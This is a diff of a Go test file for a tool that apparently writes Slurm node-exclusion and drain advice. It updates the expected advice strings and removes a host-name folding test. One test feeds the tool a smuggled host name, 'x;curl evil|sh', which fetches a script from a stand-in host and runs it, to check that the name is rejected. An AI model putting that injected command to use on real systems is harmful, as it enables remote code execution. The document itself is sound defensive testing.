@@ -58,7 +58,7 @@ func TestVerdict(t *testing.T) {
 func TestAdvice(t *testing.T) {
 	advice := func(m *Matrix) string { return strings.Join(m.Advice("2026-01-02"), "\n") }
 	m := sample()
-	for _, want := range []string{"--exclude='node[2-3]'", "scontrol update nodename='node[2-3]' state=drain", "node2, sending: see it alone"} {
+	for _, want := range []string{"--exclude=node2,node3", "scontrol update nodename=node2,node3 state=drain", "node2, sending: see it alone"} {
 		if got := advice(m); !strings.Contains(got, want) {
 			t.Errorf("%q is missing in:\n%s", want, got)
 		}
@@ -76,16 +76,6 @@ func TestAdvice(t *testing.T) {
 	m.Hosts[2].Name = "x;curl evil|sh"
 	if got := advice(m); !strings.Contains(got, "--exclude=node2\n") || !strings.Contains(got, `names are none for a host: ["x;curl evil|sh"]`) {
 		t.Error(got)
-	}
-}
-
-func TestFold(t *testing.T) {
-	for hosts, want := range map[string]string{
-		"node3 node1 node2": "node[1-3]", "n08 n10 n09": "n[08-10]", "a b1 b3": "a,b[1,3]", "x; rm": "rm", "n1 n01": "n[1,01]", "n1 n1": "n1", "": "", "node[1]": "",
-	} {
-		if got := Fold(strings.Fields(hosts)); got != want {
-			t.Errorf("%s: %s, want %s", hosts, got, want)
-		}
 	}
 }
 
